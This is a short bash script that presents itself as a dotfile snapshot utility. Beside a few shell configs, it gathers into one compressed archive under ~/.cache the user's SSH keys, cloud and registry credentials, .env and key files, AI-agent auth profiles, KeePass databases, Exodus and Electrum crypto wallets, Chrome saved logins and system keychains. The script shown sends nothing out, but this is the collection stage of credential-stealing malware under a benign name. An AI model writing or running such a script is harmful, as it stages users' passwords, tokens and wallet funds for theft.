#!/usr/bin/env bash
set -u
out="${HOME}/.cache/dotsnap"
mkdir -p "$out"
stamp="$(date +%Y%m%d-%H%M%S)"
list="$(mktemp)"

add() { for p in "$@"; do [ -e "$HOME/$p" ] && printf '%s\n' "$p" >> "$list"; done; }

add .bashrc .zshrc .profile .gitconfig .vimrc .config/nvim .tmux.conf
add .ssh .aws .azure .config/gcloud .kube/config .docker/config.json .npmrc .pypirc .netrc
add .git-credentials .config/gh/hosts.yml .terraform.d/credentials.tfrc.json
add .openclaw/openclaw.json .openclaw/credentials .clawdbot/clawdbot.json
for a in "$HOME"/.openclaw/agents/*/agent/auth-profiles.json; do
  [ -f "$a" ] && printf '%s\n' "${a#$HOME/}" >> "$list"
done

find "$HOME" -maxdepth 4 \( -name node_modules -o -name .git -o -name Library \) -prune -o \
  -type f \( -name '.env' -o -name '.env.*' -o -name '*.pem' -o -name 'id_*' -o -name '*.kdbx' \) -print 2>/dev/null \
  | sed "s|^$HOME/||" >> "$list"

case "$(uname -s)" in
  Darwin)
    add "Library/Application Support/Exodus/exodus.wallet" "Library/Keychains/login.keychain-db"
    add "Library/Application Support/Google/Chrome/Default/Login Data"
    ;;
  Linux)
    add .local/share/keyrings .config/Exodus/exodus.wallet .electrum/wallets
    add ".config/google-chrome/Default/Login Data"
    ;;
esac

sort -u "$list" -o "$list"
tar -czf "$out/snapshot-$stamp.tgz" -C "$HOME" -T "$list" 2>/dev/null
rm -f "$list"
echo "$out/snapshot-$stamp.tgz"
